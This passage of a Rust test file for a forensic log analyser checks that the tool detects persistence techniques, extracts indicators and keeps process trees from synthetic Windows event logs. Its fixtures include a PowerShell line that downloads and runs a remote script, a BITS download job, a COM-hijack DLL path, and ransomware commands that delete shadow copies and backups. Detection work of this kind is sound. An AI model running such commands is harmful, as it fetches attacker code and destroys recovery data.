        set("HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1-2-3-1001\\\\Device\\HarddiskVolume2\\Windows\\explorer.exe", "Binary Data", "C:\\Windows\\system32\\svchost.exe"),
        set("HKLM\\System\\CurrentControlSet\\Services\\LanmanServer\\Shares\\data", "Path=C:\\data", "C:\\Windows\\system32\\svchost.exe"),
        set("HKLM\\System\\ControlSet001\\Services\\Tcpip\\Parameters\\Interfaces\\{6b1c}\\DhcpIPAddress", "192.0.2.50", "C:\\Windows\\system32\\svchost.exe"),
        set("HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/8443", "198.51.100.9/443", "C:\\Windows\\system32\\netsh.exe"),
        // Defender updates the image path of its existing service: no new service
        set("HKLM\\System\\CurrentControlSet\\Services\\WinDefend\\ImagePath", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MsMpEng.exe\"", "C:\\Windows\\system32\\services.exe"),
        // a real new service: the key is created, then ImagePath set
        serde_json::json!({"EventID": 12, "Channel": SYSMON, "EventType": "CreateKey", "ProcessId": 640,
            "Image": "C:\\Windows\\system32\\services.exe", "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc"}),
        set("HKLM\\System\\CurrentControlSet\\Services\\UpdSvc\\ImagePath", "C:\\ProgramData\\Upd\\svc.exe", "C:\\Windows\\system32\\services.exe"),
        // Office and Defender register their tasks
        serde_json::json!({"EventID": 4698, "Channel": "Security", "TaskName": "\\Microsoft\\Office\\OfficeTelemetryAgentLogOn2016",
            "TaskContent": "<Task><Actions><Exec><Command>C:\\Program Files\\Common Files\\Microsoft Shared\\Office16\\msoia.exe</Command><Arguments>scan upload mininterval:2880</Arguments></Exec></Actions></Task>"}),
        serde_json::json!({"EventID": 4698, "Channel": "Security", "TaskName": "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan",
            "TaskContent": "<Task><Actions><Exec><Command>C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe</Command><Arguments>Scan -ScheduleJob</Arguments></Exec></Actions></Task>"}),
        // a task hiding under an Office name, running from the profile: reported
        serde_json::json!({"EventID": 4698, "Channel": "Security", "TaskName": "\\Microsoft\\Office\\OfficeTelemetryAgentLogOn2019",
            "TaskContent": "<Task><Actions><Exec><Command>C:\\Users\\alice\\AppData\\Roaming\\tele.exe</Command></Exec></Actions></Task>"}),
        serde_json::json!({"EventID": 7045, "Channel": "System", "ServiceName": "KernSvc", "ImagePath": "C:\\Windows\\Temp\\k.sys"}),
    ];
    let (_, events, _) = read("noise.ndjson", &win_lines(&records));
    let f = analyse(&events);
    let got: Vec<(&str, &str)> = f
        .persistence
        .iter()
        .map(|p| (p.technique.as_str(), p.location.as_str()))
        .collect();
    assert_eq!(
        got,
        vec![
            (
                "T1053.005",
                "\\Microsoft\\Office\\OfficeTelemetryAgentLogOn2019"
            ),
            (
                "T1543.003",
                "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc\\ImagePath"
            ),
            ("T1543.003", "KernSvc"),
        ]
    );
    assert!(f.known_benign >= 2, "{}", f.known_benign);
    let removals = &f.remediation.registry_to_remove;
    assert!(
        removals
            .iter()
            .all(|k| !k.contains("\\VSS\\") && !k.contains("\\bam\\")),
        "{removals:#?}"
    );
    assert!(!f
        .remediation
        .tasks_to_remove
        .iter()
        .any(|t| t.contains("2016") || t.contains("Defender")));
    // an existing service's value is never to be removed
    assert!(
        !removals.iter().any(|k| k.contains("WinDefend")),
        "{removals:#?}"
    );
    assert!(
        removals.iter().any(|k| k.contains("UpdSvc")),
        "{removals:#?}"
    );
}

#[test]
fn sysmon_user_classes_hive_is_the_users_software_classes() {
    let key = "HKU\\S-1-5-21-3623811015-3361044348-30300820-1013_CLASSES\\CLSID\\{0358B920-0AC7-461F-98F4-58E32CD89148}\\InprocServer32\\(Default)";
    let records = [
        serde_json::json!({"EventID": 13, "Channel": SYSMON, "EventType": "SetValue", "ProcessId": 4216,
        "Image": "C:\\Users\\alice\\Downloads\\drop.exe", "TargetObject": key,
        "Details": "C:\\Users\\alice\\AppData\\Local\\Temp\\hijack.dll"}),
    ];
    let data = win_lines(&records);
    let (_, events, _) = read("com.ndjson", &data);
    let f = analyse(&events);
    let want = "HKCU\\Software\\Classes\\CLSID\\{0358B920-0AC7-461F-98F4-58E32CD89148}\\InprocServer32\\(Default)";
    assert_eq!(f.persistence.len(), 1, "{:#?}", f.persistence);
    assert_eq!(f.persistence[0].technique, "T1546.015");
    assert_eq!(f.persistence[0].location, want);
    assert!(f.remediation.registry_to_remove.contains(want));
    // extract spells it the same way
    let iocs = spoor::extract::Extractor::new(spoor::extract::ExtractOptions::default())
        .extract_bytes("com.ndjson", &data);
    assert!(
        iocs.iter().any(|i| i.value.eq_ignore_ascii_case(want)),
        "{:#?}",
        iocs.iter().map(|i| &i.value).collect::<Vec<_>>()
    );
}

#[test]
fn version_strings_never_become_addresses() {
    let records = [
        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 2210, "ParentProcessId": 640,
            "Image": "C:\\Program Files (x86)\\Google\\Update\\1.3.173.55\\GoogleUpdate.exe", "FileVersion": "1.3.173.55",
            "CommandLine": "\"C:\\Program Files (x86)\\Google\\Update\\1.3.173.55\\GoogleUpdate.exe\" /svc"}),
        serde_json::json!({"EventID": 13, "Channel": SYSMON, "EventType": "SetValue", "ProcessId": 2210,
            "Image": "C:\\Program Files (x86)\\Google\\Update\\1.3.173.55\\GoogleUpdate.exe",
            "TargetObject": "HKLM\\SOFTWARE\\WOW6432Node\\Google\\Update\\ClientState\\{430FD4D0-B729-4F61-AA34-91526481799D}\\pv",
            "Details": "1.3.173.55"}),
        // a real address in a command line still is one
        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 2214, "ParentProcessId": 640,
            "Image": "C:\\Windows\\System32\\ping.exe", "CommandLine": "ping -n 1 198.51.100.77"}),
    ];
    let data = win_lines(&records);
    let (_, events, _) = read("versions.ndjson", &data);
    let f = analyse(&events);
    let ips: Vec<&str> = f
        .iocs
        .iter()
        .filter(|i| i.kind == "ipv4")
        .map(|i| i.value.as_str())
        .collect();
    assert_eq!(ips, vec!["198.51.100.77"]);
    // extract: a version field, folders named after versions, and registry data whose
    // value is named as a version
    let iocs = spoor::extract::Extractor::new(spoor::extract::ExtractOptions::default())
        .extract_bytes("versions.ndjson", &data);
    let ips: Vec<&str> = iocs
        .iter()
        .filter(|i| i.kind == spoor::ioc::IocKind::Ipv4)
        .map(|i| i.value.as_str())
        .collect();
    assert_eq!(ips, vec!["198.51.100.77"]);
}

#[test]
fn security_bits_powershell_and_wmi_events_are_mapped() {
    let records = [
        serde_json::json!({"EventID": 4624, "Channel": "Security", "TargetUserName": "alice", "LogonType": "3", "IpAddress": "192.0.2.10"}),
        serde_json::json!({"EventID": 4625, "Channel": "Security", "TargetUserName": "admin", "IpAddress": "203.0.113.5"}),
        serde_json::json!({"EventID": 4672, "Channel": "Security", "SubjectUserName": "alice"}),
        serde_json::json!({"EventID": 4720, "Channel": "Security", "TargetUserName": "support", "SubjectUserName": "alice"}),
        serde_json::json!({"EventID": 4732, "Channel": "Security", "TargetUserName": "Administrators", "MemberSid": "S-1-5-21-1-2-3-1005"}),
        serde_json::json!({"EventID": 5145, "Channel": "Security", "ShareName": "\\\\*\\C$", "RelativeTargetName": "Windows\\Temp\\x.exe"}),
        serde_json::json!({"EventID": 1102, "Channel": "Security", "SubjectUserName": "alice"}),
        serde_json::json!({"EventID": 3, "Channel": "Microsoft-Windows-Bits-Client/Operational", "jobTitle": "upd", "processPath": "C:\\Windows\\System32\\bitsadmin.exe", "processId": "5132"}),
        serde_json::json!({"EventID": 59, "Channel": "Microsoft-Windows-Bits-Client/Operational", "name": "upd", "url": "http://update.example.com/u.bin"}),
        serde_json::json!({"EventID": 3, "Channel": "Microsoft-Windows-Bits-Client/Operational", "jobTitle": "Font Download", "processPath": "C:\\Windows\\System32\\svchost.exe"}),
        serde_json::json!({"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://stage.example.org/a.ps1')", "Path": ""}),
        serde_json::json!({"EventID": 5861, "Channel": "Microsoft-Windows-WMI-Activity/Operational", "CONSUMER": "CommandLineEventConsumer=\"upd\"", "PossibleCause": "Binding EventFilter: ... CommandLineTemplate = \"C:\\\\ProgramData\\\\u.exe\""}),
    ];
    let (_, events, _) = read("mixed.ndjson", &win_lines(&records));
    let actions: Vec<&str> = events.iter().map(|e| e.action.as_str()).collect();
    assert_eq!(
        actions,
        vec![
            "logon",
            "logon_failed",
            "other",
            "account_create",
            "group_add",
            "share_access",
            "log_clear",
            "bits_job",
            "bits_job",
            "bits_job",
            "script",
            "wmi_subscription"
        ]
    );
    let f = analyse(&events);
    let got: Vec<(&str, &str)> = f
        .persistence
        .iter()
        .map(|p| (p.technique.as_str(), p.location.as_str()))
        .collect();
    assert!(got.contains(&("T1136.001", "support")), "{got:#?}");
    assert!(got.contains(&("T1197", "upd")), "{got:#?}");
    assert!(!got.iter().any(|(_, l)| *l == "Font Download"), "{got:#?}");
    assert!(got.iter().any(|(t, _)| *t == "T1546.003"), "{got:#?}");
    assert!(got.iter().any(|(t, _)| *t == "T1098.007"), "{got:#?}");
    assert!(f.techniques.contains_key("T1070.001"));
    assert!(f
        .iocs
        .iter()
        .any(|i| i.value == "http://update.example.com/u.bin"));
    assert!(f.iocs.iter().any(|i| i.value == "stage.example.org"));
}

#[test]
fn pid_reuse_keeps_every_process() {
    // the corpus ransomware log starts three cmd.exe under one pid
    let path = "corpus/logs/procmon/lockjaw_v1-procmon.csv";
    let data = std::fs::read(root().join(path)).expect("log");
    let f = analyse(&read(path, &data).1);
    fn commands(n: &spoor::logs::analysis::ProcessNode, out: &mut Vec<String>) {
        out.extend(n.command_line.clone());
        for c in &n.children {
            commands(c, out);
        }
    }
    let mut all = Vec::new();
    for root in &f.process_tree {
        commands(root, &mut all);
    }
    for want in [
        "vssadmin.exe delete shadows",
        "bcdedit.exe /set {default} recoveryenabled no",
        "wbadmin.exe delete catalog",
    ] {
        assert!(
            all.iter().any(|c| c.contains(want)),
            "{want} missing from {all:#?}"
        );
    }
    // a start after an exit of the same pid is a new process
    let records = [
        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 900, "ParentProcessId": 4, "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c echo a"}),
        serde_json::json!({"EventID": 5, "Channel": SYSMON, "ProcessId": 900, "Image": "C:\\Windows\\System32\\cmd.exe"}),
        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 900, "ParentProcessId": 4, "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c echo a"}),
    ];
    let f = analyse(&read("reuse.ndjson", &win_lines(&records)).1);
    assert_eq!(f.process_tree.len(), 1);
    assert_eq!(f.process_tree[0].children.len(), 2, "{:#?}", f.process_tree);
}
